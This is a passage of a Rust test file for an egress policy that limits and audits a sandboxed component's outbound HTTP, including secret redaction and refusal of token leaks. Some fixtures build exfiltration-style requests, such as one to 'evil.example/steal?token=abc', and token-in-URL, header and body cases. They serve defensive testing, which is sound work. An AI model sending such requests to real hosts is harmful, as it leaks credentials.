    assert_eq!(EgressPolicy::DEFAULT_MAX_IN_FLIGHT, 8);
    assert_eq!(p.max_exchange, None);
    assert_eq!(p.exchange_deadline(), p.max_timeout);
    assert_eq!(p.exchange_deadline(), Duration::from_secs(90));
    // Clones (an instance's copy of its component's policy) share the slots.
    let clone = p.clone();
    drop(p.in_flight.slots.clone().try_acquire_owned().unwrap());
    let held = p.in_flight.slots.clone().try_acquire_owned().unwrap();
    assert_eq!(clone.in_flight.available(), 7);
    drop(held);
    assert_eq!(clone.in_flight.available(), 8);
    assert_eq!(InFlightLimit::new(0).limit(), 1);
}

#[tokio::test]
async fn hooks_drop_host_set_headers_but_keep_a_streaming_length() {
    let a = Server::replying(|seen| http::Response::new(full(seen.body.clone()))).await;
    let mut hooks = EgressHooks::new(Arc::new(policy(&[&a], &[&a], Vec::new())));

    // A streaming body (no size of its own) with the length the guest declared: kept, and
    // sent as is rather than chunked.
    let chunks =
        ["hel", "lo"].map(|c| Ok::<_, wasmtime_wasi_http::Error>(Frame::data(Bytes::from(c))));
    let streaming: WasiBody = StreamBody::new(futures::stream::iter(chunks)).boxed_unsync();
    let request = http::Request::post(a.url("/stream"))
        .header("host", format!("127.0.0.1:{}", a.port()))
        .header("content-length", "5")
        .header("upgrade", "h2c")
        .body(streaming)
        .unwrap();
    let future = hooks.send_request(request, None, Box::new(async { Ok(()) }));
    let (response, _io) = Pin::from(future).await.unwrap();
    assert_eq!(response.status(), 200);

    // A body of known size: whatever length was declared, the real one is sent.
    let request = http::Request::post(a.url("/full"))
        .header("content-length", "2")
        .body(wasi_body("hello world"))
        .unwrap();
    let future = hooks.send_request(request, None, Box::new(async { Ok(()) }));
    let (response, _io) = Pin::from(future).await.unwrap();
    assert_eq!(response.status(), 200);

    let seen = a.seen();
    assert_eq!(&seen[0].body[..], b"hello");
    assert_eq!(seen[0].headers["content-length"].as_bytes(), b"5");
    assert!(seen[0].headers.get("transfer-encoding").is_none());
    assert!(seen[0].headers.get("upgrade").is_none());
    assert_eq!(&seen[1].body[..], b"hello world");
    assert_eq!(seen[1].headers["content-length"].as_bytes(), b"11");
}

#[tokio::test]
async fn refusals_are_counted_past_the_logging_cap() {
    let p = EgressPolicy::deny_all(COMPONENT);
    for _ in 0..MAX_LOGGED_REFUSALS + 5 {
        assert!(
            send_buffered(&p, get("https://not-granted.example/x"))
                .await
                .is_err()
        );
    }
    assert_eq!(
        p.refusals_logged.load(std::sync::atomic::Ordering::Relaxed),
        MAX_LOGGED_REFUSALS + 5
    );
}

#[tokio::test]
async fn refusals_raise_alerts_only_while_they_are_logged() {
    let (alerts, mut rx) = crate::alert::Alerts::channel();
    let p = EgressPolicy {
        alerts: crate::caps::alerts::ComponentAlerts::new(alerts, Some(COMPONENT.into())),
        ..EgressPolicy::deny_all(COMPONENT)
    };
    for _ in 0..MAX_LOGGED_REFUSALS * 3 {
        let refused = send_buffered(&p, get("https://evil.example/steal?token=abc")).await;
        assert!(refused.is_err());
    }
    let mut raised = Vec::new();
    while let Ok(a) = rx.try_recv() {
        raised.push(a);
    }
    assert_eq!(
        raised.len(),
        MAX_LOGGED_REFUSALS as usize,
        "bounded by the budget"
    );
    let a = &raised[0];
    assert_eq!(a.kind, crate::alert::Kind::CapabilityDenied);
    assert_eq!(a.adapter.as_deref(), Some(COMPONENT));
    assert_eq!(
        a.text,
        format!(
            "{COMPONENT} was refused egress to https://evil.example (not in its grant); \
             the request did not go out"
        )
    );
    assert!(
        !a.text.contains("steal") && !a.text.contains("token"),
        "{}",
        a.text
    );
}

#[test]
fn transfer_headers_belong_to_the_host_where_a_secret_is_bound() {
    let with: Destination = "http://127.0.0.1:1".parse().unwrap();
    let without: Destination = "http://127.0.0.1:2".parse().unwrap();
    let p = EgressPolicy {
        allow: vec![with.clone(), without.clone()],
        secrets: vec![bound("T", &with, "/bot{secret}", TOKEN)],
        ..EgressPolicy::deny_all(COMPONENT)
    };
    // (header the requester sets, what a destination with a secret gets, without one)
    #[rustfmt::skip]
    let cases: [(&str, &str, Option<&str>, Option<&str>); 6] = [
        ("accept-encoding", "gzip, br", Some("identity"), Some("gzip, br")),
        ("range", "bytes=0-9", None, Some("bytes=0-9")),
        ("if-range", "\"etag\"", None, Some("\"etag\"")),
        ("te", "gzip", None, Some("gzip")),
        ("accept", "*/*", Some("*/*"), Some("*/*")),
        ("x-other", "1", Some("1"), Some("1")),
    ];
    for (name, value, with_secret, without_secret) in cases {
        for (destination, expected) in [(&with, with_secret), (&without, without_secret)] {
            let mut request = get(&format!("{destination}/x"));
            request
                .headers_mut()
                .insert(HeaderName::from_static(name), value.parse().unwrap());
            p.control_transfer(destination, &mut request);
            let got = request.headers().get(name).map(|v| v.to_str().unwrap());
            assert_eq!(got, expected, "{name} to {destination}");
            if destination == &with {
                assert_eq!(request.headers()["accept-encoding"], "identity");
            }
        }
    }
}

/// A server that compresses its echo of the path: gzip when the request accepts it, or
/// always for `?force=gzip`, or labels it `br` for `?force=br`; cut to a `Range` if asked.
async fn compressing_echo() -> Server {
    Server::replying(|seen| {
        use std::io::Write;
        let mut body = format!("no such page: {}", seen.path).into_bytes();
        let mut builder = http::Response::builder().status(200);
        if let Some(range) = seen.headers.get("range") {
            let end = range.to_str().unwrap().trim_start_matches("bytes=0-");
            body.truncate(end.parse::<usize>().unwrap() + 1);
            builder = builder.status(206);
        }
        let accepts = seen
            .headers
            .get("accept-encoding")
            .is_some_and(|v| v.to_str().unwrap().contains("gzip"));
        let force = seen.query.clone().unwrap_or_default();
        if force == "force=br" {
            builder = builder.header("content-encoding", "br");
        } else if accepts || force == "force=gzip" {
            let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
            e.write_all(&body).unwrap();
            body = e.finish().unwrap();
            builder = builder.header("content-encoding", "gzip");
        }
        builder.body(full(body)).unwrap()
    })
    .await
}

#[tokio::test]
async fn a_reflected_secret_is_neither_compressed_nor_cut_into_ranges() {
    let a = compressing_echo().await;
    let b = compressing_echo().await;
    let p = policy(
        &[&a, &b],
        &[&a, &b],
        vec![bound("T", &a.destination(), "/bot{secret}", TOKEN)],
    );
    // (path and query, requester's headers)
    let cases = [
        ("/x", vec![("accept-encoding", "gzip")]),
        ("/x?force=gzip", vec![]),
        ("/x", vec![("range", "bytes=0-20")]),
        (
            "/x",
            vec![("range", "bytes=0-20"), ("accept-encoding", "gzip")],
        ),
    ];
    for (path, headers) in &cases {
        let mut request = get(&a.url(path));
        for (name, value) in headers {
            request
                .headers_mut()
                .insert(HeaderName::from_static(name), value.parse().unwrap());
        }
        let res = send_buffered(&p, request).await.unwrap();
        assert_eq!(res.status(), 200, "{path} {headers:?}");
        assert!(res.headers().get("content-encoding").is_none());
        assert_eq!(
            std::str::from_utf8(res.body()).unwrap(),
            "no such page: /bot[redacted]/x",
            "{path} {headers:?}"
        );
        let seen = a.seen().pop().unwrap();
        assert_eq!(seen.headers["accept-encoding"], "identity");
        assert!(seen.headers.get("range").is_none());
    }
    // A coding the host cannot decode is refused.
    let err = send_buffered(&p, get(&a.url("/x?force=br")))
        .await
        .unwrap_err();
    assert!(
        matches!(err, EgressError::UnsupportedEncoding { ref encoding, .. } if encoding == "br"),
        "{err}"
    );
    assert!(!err.to_string().contains("ABC-def"), "{err}");
    // Where no secret is bound, the requester's choices stand.
    let mut request = get(&b.url("/y"));
    request
        .headers_mut()
        .insert("accept-encoding", "gzip".parse().unwrap());
    let res = send_buffered(&p, request).await.unwrap();
    assert_eq!(res.headers()["content-encoding"], "gzip");
}

#[tokio::test]
async fn a_request_holding_a_secret_is_refused_wherever_it_goes() {
    let a = Server::ok().await;
    let b = Server::ok().await;
    let p = policy(
        &[&a, &b],
        &[&a, &b],
        vec![bound("T", &a.destination(), "/bot{secret}", TOKEN)],
    );
    let hex: String = TOKEN.bytes().map(|x| format!("{x:02x}")).collect();
    let post =
        |uri: String, body: String| http::Request::post(uri).body(Bytes::from(body)).unwrap();
    let with_header = |uri: String, value: &str| {
        let mut r = get(&uri);
        r.headers_mut().insert("x-leak", value.parse().unwrap());
        r
    };
    // (request, where the secret was)
    let cases = [
        (get(&b.url(&format!("/x?t={TOKEN}"))), "its URL"),
        (get(&b.url(&format!("/{hex}"))), "its URL"),
        (with_header(b.url("/x"), TOKEN), "a header"),
        (post(b.url("/x"), format!("text={TOKEN}")), "its body"),
        (
            post(b.url("/x"), format!("{}{}", "z".repeat(70_000), hex)),
            "its body",
        ),
        (post(a.url("/x"), format!("again {TOKEN}")), "its body"),
    ];
    for (request, place) in cases {
        let err = send_buffered(&p, request).await.unwrap_err();
        match &err {
            EgressError::SecretInRequest { place: p, .. } => assert_eq!(*p, place, "{err}"),
            other => panic!("expected a refusal, got {other}"),
        }
        assert!(err.is_denial());
        assert!(!err.to_string().contains("ABC-def"), "{err}");
    }
    for seen in a.seen().iter().chain(b.seen().iter()) {
        let body = String::from_utf8_lossy(&seen.body);
        assert!(
            !body.contains("ABC-def") && !body.contains(&hex[..24]),
            "{seen:?}"
        );
    }
    // Requests without one go through, a long body whole.
    let long = "y".repeat(100_000);
    send_buffered(&p, post(b.url("/ok"), long.clone()))
        .await
        .unwrap();
    assert_eq!(b.seen().pop().unwrap().body, long.as_bytes());
}
